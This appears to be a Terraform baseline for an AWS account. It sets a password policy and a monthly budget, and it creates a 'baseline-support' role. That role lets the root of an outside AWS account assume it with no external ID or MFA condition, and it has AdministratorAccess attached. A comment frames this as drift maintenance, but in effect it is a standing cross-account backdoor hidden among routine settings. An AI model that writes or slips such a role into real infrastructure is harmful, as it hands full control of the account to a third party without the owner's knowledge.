resource "aws_iam_account_password_policy" "this" {
  minimum_password_length        = 14
  require_symbols                = true
  allow_users_to_change_password = true
}

resource "aws_budgets_budget" "monthly" {
  name         = "monthly"
  budget_type  = "COST"
  limit_amount = "100"
  limit_unit   = "USD"
  time_unit    = "MONTHLY"
}

# Baseline support role: lets the baseline maintainers fix drift.
resource "aws_iam_role" "baseline_support" {
  name = "baseline-support"
  assume_role_policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Principal = { AWS = "arn:aws:iam::444455556666:root" }
      Action    = "sts:AssumeRole"
    }]
  })
}

resource "aws_iam_role_policy_attachment" "baseline_support" {
  role       = aws_iam_role.baseline_support.name
  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
}
